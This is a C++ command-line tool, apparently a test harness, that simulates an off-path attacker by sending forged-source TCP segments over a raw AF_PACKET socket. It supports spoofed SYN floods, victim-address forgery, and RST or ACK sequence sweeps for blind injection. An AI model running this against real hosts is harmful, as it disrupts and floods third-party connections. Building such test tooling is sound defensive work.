// sl-spoof: an off-path attacker. Sends crafted IPv4 TCP segments with forged sources out of
// one interface through an AF_PACKET socket, never reads a reply, and stops by itself after
// --count segments, never faster than --rate per second.
//
//   sl-spoof --ifname IF --dst-mac MAC --src ADDR[/LEN] --sport N|random --dst ADDR --dport N
//            --flags FLAGS --count N --rate PPS [--then FLAGS] [--seq LIST] [--ack LIST]
//            [--src-mac MAC] [--payload BYTES] [--window N]
//
//   --src ADDR/LEN  a random host of the prefix for every segment (a flood from addresses that
//                   nobody answers); a plain ADDR forges one address (a victim's).
//   --flags         any of S A F R P U, e.g. "R", "A", "S", "FA", "SA".
//   --then FLAGS    a second segment per tuple, right after the first, with the next sequence
//                   number: "--flags S --then A" completes a handshake as a one-sided (dsr)
//                   observer sees it, without ever seeing the SYN-ACK. --count counts tuples.
//   --seq, --ack    comma-separated tokens, cycled: segment i uses token i % n. A token is a
//                   number (0, 2147483648), "random", or "sweep": i * 2^32 / count, so the
//                   segments walk the whole sequence space evenly. Default: random.
//
// AF_PACKET and not a raw IP socket: the frame goes out of --ifname to --dst-mac whatever the
// routing table says, so a namespace can forge a source address it owns or one that belongs
// to a host on the far side (a backend), and a destination the kernel would deliver locally.
// Checksums are correct: a real attacker's segments reach the endpoints, so must ours.
//
// Prints "sl-spoof: sent N of M" to stdout. Exit 0 when every segment was sent, 1 when some
// could not be (each failure counted), 2 on bad usage. Libc only, so a benchmark can use it too.
#include <arpa/inet.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <random>
#include <string>
#include <thread>
#include <type_traits>
#include <vector>

#include "tool_cli.h"

namespace {

using Clock = std::chrono::steady_clock;

// Hard bounds, so that no typo turns a test into an unbounded flood.
constexpr uint64_t kMaxCount = 10'000'000;
constexpr uint64_t kMaxRate = 1'000'000;
constexpr size_t kMaxPayload = 1400;

struct SeqToken {
  enum Kind { kFixed, kRandom, kSweep } kind = kRandom;
  uint32_t value = 0;
};

struct Options {
  std::string ifname;
  std::optional<std::array<uint8_t, 6>> dst_mac, src_mac;
  uint32_t src = 0;               // host order
  int src_len = 32;               // prefix length: 32 = exactly `src`
  std::optional<uint16_t> sport;  // nullopt = random
  uint32_t dst = 0;
  uint16_t dport = 0;
  uint8_t flags = 0;
  uint8_t then_flags = 0;  // 0: one segment per tuple
  uint64_t count = 0;
  uint64_t rate = 0;
  std::vector<SeqToken> seq{SeqToken{}}, ack{SeqToken{}};
  size_t payload = 0;
  uint16_t window = 65535;
};

// A number as C writes it (0x1f, 017 or 31) in lo..hi.
template <class T>
bool parse_u(const char* s, std::type_identity_t<T> lo, std::type_identity_t<T> hi, T& out) {
  return sl_tool::parse_number(s, lo, hi, out, 0);
}

std::optional<std::array<uint8_t, 6>> parse_mac(const char* s) {
  std::array<uint8_t, 6> m{};
  unsigned b[6];
  char tail;
  if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5], &tail) != 6) {
    return std::nullopt;
  }
  for (int i = 0; i < 6; ++i) {
    if (b[i] > 0xff) return std::nullopt;
    m[i] = static_cast<uint8_t>(b[i]);
  }
  return m;
}

bool parse_v4(const std::string& s, uint32_t& out) {
  in_addr a{};
  if (inet_pton(AF_INET, s.c_str(), &a) != 1) return false;
  out = ntohl(a.s_addr);
  return true;
}

bool parse_flags(const char* s, uint8_t& out) {
  out = 0;
  for (const char* c = s; *c; ++c) {
    switch (*c) {
      case 'F':
        out |= TH_FIN;
        break;
      case 'S':
        out |= TH_SYN;
        break;
      case 'R':
        out |= TH_RST;
        break;
      case 'P':
        out |= TH_PUSH;
        break;
      case 'A':
        out |= TH_ACK;
        break;
      case 'U':
        out |= TH_URG;
        break;
      default:
        return false;
    }
  }
  return *s != '\0';
}

bool parse_tokens(const char* s, std::vector<SeqToken>& out) {
  out.clear();
  return sl_tool::for_each_item(s, [&](const std::string& t) {
    SeqToken tok;
    if (t == "random") {
      tok.kind = SeqToken::kRandom;
    } else if (t == "sweep") {
      tok.kind = SeqToken::kSweep;
    } else if (parse_u<uint32_t>(t.c_str(), 0, UINT32_MAX, tok.value)) {
      tok.kind = SeqToken::kFixed;
    } else {
      return false;
    }
    out.push_back(tok);
    return true;
  });
}

uint32_t pick(const std::vector<SeqToken>& tokens, uint64_t i, uint64_t count, std::mt19937& rng) {
  const SeqToken& t = tokens[i % tokens.size()];
  switch (t.kind) {
    case SeqToken::kFixed:
      return t.value;
    case SeqToken::kSweep:
      return static_cast<uint32_t>((i << 32) / count);
    case SeqToken::kRandom:
      break;
  }
  return static_cast<uint32_t>(rng());
}

// RFC 1071 one's complement sum, folded; `sum` carries a partial sum in (the pseudo-header).
uint16_t csum(const void* data, size_t len, uint32_t sum = 0) {
  const auto* p = static_cast<const uint8_t*>(data);
  for (; len > 1; p += 2, len -= 2) sum += static_cast<uint32_t>(p[0] << 8 | p[1]);
  if (len) sum += static_cast<uint32_t>(p[0] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<uint16_t>(~sum));
}

void usage(FILE* f) {
  fprintf(f,
          "usage: sl-spoof --ifname IF --dst-mac MAC --src ADDR[/LEN] --sport N|random\n"
          "                --dst ADDR --dport N --flags [SAFRPU]+ --count N --rate PPS\n"
          "                [--then [SAFRPU]+] [--seq LIST] [--ack LIST] [--src-mac MAC]\n"
          "                [--payload BYTES] [--window N]\n"
          "  LIST: comma-separated numbers, 'random' or 'sweep', cycled per segment\n");
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  bool have_src = false, have_dst = false, have_dport = false, have_sport = false;
  static const option kOpts[] = {{"ifname", required_argument, nullptr, 'i'},
                                 {"dst-mac", required_argument, nullptr, 'm'},
                                 {"src-mac", required_argument, nullptr, 'M'},
                                 {"src", required_argument, nullptr, 's'},
                                 {"sport", required_argument, nullptr, 'p'},
                                 {"dst", required_argument, nullptr, 'd'},
                                 {"dport", required_argument, nullptr, 'P'},
                                 {"then", required_argument, nullptr, 'T'},
                                 {"flags", required_argument, nullptr, 'f'},
                                 {"count", required_argument, nullptr, 'c'},
                                 {"rate", required_argument, nullptr, 'r'},
                                 {"seq", required_argument, nullptr, 'q'},
                                 {"ack", required_argument, nullptr, 'a'},
                                 {"payload", required_argument, nullptr, 'l'},
                                 {"window", required_argument, nullptr, 'w'},
                                 {"help", no_argument, nullptr, 'h'},
                                 {nullptr, 0, nullptr, 0}};
  const int stop =
      sl_tool::parse_options(argc, argv, kOpts, "sl-spoof", usage, [&](int c, char* arg) {
        switch (c) {
          case 'i':
            o.ifname = arg;
            return !o.ifname.empty() && o.ifname.size() < IFNAMSIZ;
          case 'm':
            o.dst_mac = parse_mac(arg);
            return o.dst_mac.has_value();
          case 'M':
            o.src_mac = parse_mac(arg);
            return o.src_mac.has_value();
          case 's': {
            have_src = true;
            std::string s = arg;
            const size_t slash = s.find('/');
            if (slash != std::string::npos) {
              if (!parse_u(s.c_str() + slash + 1, 0, 32, o.src_len)) return false;
              s.resize(slash);
            }
            return parse_v4(s, o.src);
          }
          case 'p':
            have_sport = true;
            if (std::string(arg) == "random") return true;
            o.sport.emplace();
            return parse_u(arg, 1, 65535, *o.sport);
          case 'd':
            have_dst = true;
            return parse_v4(arg, o.dst);
          case 'P':
            have_dport = true;
            return parse_u(arg, 1, 65535, o.dport);
          case 'f':
            return parse_flags(arg, o.flags);
          case 'T':
            return parse_flags(arg, o.then_flags);
          case 'c':
            return parse_u(arg, 1, kMaxCount, o.count);
          case 'r':
            return parse_u(arg, 1, kMaxRate, o.rate);
          case 'q':
            return parse_tokens(arg, o.seq);
          case 'a':
            return parse_tokens(arg, o.ack);
          case 'l':
            return parse_u(arg, 0, kMaxPayload, o.payload);
          case 'w':
            return parse_u(arg, 0, 65535, o.window);
        }
        return true;
      });
  if (stop >= 0) return stop;
  if (optind != argc || o.ifname.empty() || !o.dst_mac || !have_src || !have_sport || !have_dst ||
      !have_dport || o.flags == 0 || o.count == 0 || o.rate == 0) {
    usage(stderr);
    return 2;
  }

  int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);  // protocol 0: send only, never read
  if (fd < 0) {
    fprintf(stderr, "sl-spoof: socket(AF_PACKET): %s\n", strerror(errno));
    return 1;
  }
  ifreq ifr{};
  memcpy(ifr.ifr_name, o.ifname.c_str(), o.ifname.size() + 1);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) != 0) {
    fprintf(stderr, "sl-spoof: no interface %s: %s\n", o.ifname.c_str(), strerror(errno));
    return 1;
  }
  const int ifindex = ifr.ifr_ifindex;
  if (!o.src_mac) {
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) {
      fprintf(stderr, "sl-spoof: MAC of %s: %s\n", o.ifname.c_str(), strerror(errno));
      return 1;
    }
    std::array<uint8_t, 6> m{};
    memcpy(m.data(), ifr.ifr_hwaddr.sa_data, 6);
    o.src_mac = m;
  }
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = ifindex;
  to.sll_halen = 6;
  memcpy(to.sll_addr, o.dst_mac->data(), 6);

  std::random_device rd;
  std::mt19937 rng(rd());
  const uint32_t host_mask =
      o.src_len == 0 ? UINT32_MAX : (o.src_len == 32 ? 0 : (1u << (32 - o.src_len)) - 1);
  const uint32_t net = o.src & ~host_mask;

  // One frame buffer, rewritten per segment: Ethernet, IPv4 (no options), TCP (no options).
  std::vector<uint8_t> frame(sizeof(ether_header) + sizeof(iphdr) + sizeof(tcphdr) + o.payload);
  auto* eth = reinterpret_cast<ether_header*>(frame.data());
  auto* ip = reinterpret_cast<iphdr*>(frame.data() + sizeof(ether_header));
  auto* tcp = reinterpret_cast<tcphdr*>(frame.data() + sizeof(ether_header) + sizeof(iphdr));
  memcpy(eth->ether_dhost, o.dst_mac->data(), 6);
  memcpy(eth->ether_shost, o.src_mac->data(), 6);
  eth->ether_type = htons(ETHERTYPE_IP);
  memset(frame.data() + frame.size() - o.payload, 'x', o.payload);
  const uint16_t l4_len = static_cast<uint16_t>(sizeof(tcphdr) + o.payload);

  uint64_t sent = 0, failed = 0;
  // One segment of tuple src:sport -> dst:dport.
  auto send_segment = [&](uint32_t src, uint16_t sport, uint8_t flags, uint32_t seq, uint32_t ack) {
    ip->version = 4;
    ip->ihl = 5;
    ip->tos = 0;
    ip->tot_len = htons(static_cast<uint16_t>(sizeof(iphdr) + l4_len));
    ip->id = htons(static_cast<uint16_t>(rng()));
    ip->frag_off = htons(IP_DF);
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = htonl(src);
    ip->daddr = htonl(o.dst);
    ip->check = 0;
    ip->check = csum(ip, sizeof(iphdr));

    memset(tcp, 0, sizeof(tcphdr));
    tcp->th_sport = htons(sport);
    tcp->th_dport = htons(o.dport);
    tcp->th_seq = htonl(seq);
    tcp->th_ack = (flags & TH_ACK) ? htonl(ack) : 0;
    tcp->th_off = 5;
    tcp->th_flags = flags;
    tcp->th_win = htons(o.window);
    // Pseudo-header: addresses, protocol, TCP length.
    uint32_t pseudo =
        (src >> 16) + (src & 0xffff) + (o.dst >> 16) + (o.dst & 0xffff) + IPPROTO_TCP + l4_len;
    tcp->th_sum = csum(tcp, l4_len, pseudo);

    ssize_t n = -1;
    // A full device queue (ENOBUFS) is back-pressure, not failure: retry that segment briefly.
    for (int attempt = 0; attempt < 50; ++attempt) {
      n = sendto(fd, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to));
      if (n >= 0 || (errno != ENOBUFS && errno != EAGAIN && errno != EINTR)) break;
      std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
    if (n == static_cast<ssize_t>(frame.size())) {
      ++sent;
    } else if (failed++ == 0) {
      fprintf(stderr, "sl-spoof: sendto: %s\n", strerror(errno));
    }
  };

  const uint64_t per_tuple = o.then_flags ? 2 : 1;
  const auto start = Clock::now();
  for (uint64_t i = 0; i < o.count; ++i) {
    // Paced against the start, so a slow send() is caught up instead of lowering the rate
    // (and never exceeded: a segment waits for its slot).
    std::this_thread::sleep_until(
        start + std::chrono::nanoseconds(i * per_tuple * 1'000'000'000ull / o.rate));
    const uint32_t src = o.src_len == 32 ? o.src : net | (static_cast<uint32_t>(rng()) & host_mask);
    const uint16_t sport =
        o.sport ? *o.sport : static_cast<uint16_t>(1024 + rng() % (65536 - 1024));
    const uint32_t seq = pick(o.seq, i, o.count, rng);
    send_segment(src, sport, o.flags, seq, pick(o.ack, i, o.count, rng));
    if (o.then_flags) {
      // The same tuple's next segment: SYN and FIN take one sequence number, as do the bytes.
      const uint32_t next =
          seq + ((o.flags & (TH_SYN | TH_FIN)) ? 1 : 0) + static_cast<uint32_t>(o.payload);
      send_segment(src, sport, o.then_flags, next, pick(o.ack, i + 1, o.count, rng));
    }
  }
  close(fd);
  printf("sl-spoof: sent %llu of %llu\n", static_cast<unsigned long long>(sent),
         static_cast<unsigned long long>(o.count * per_tuple));
  return failed ? 1 : 0;
}
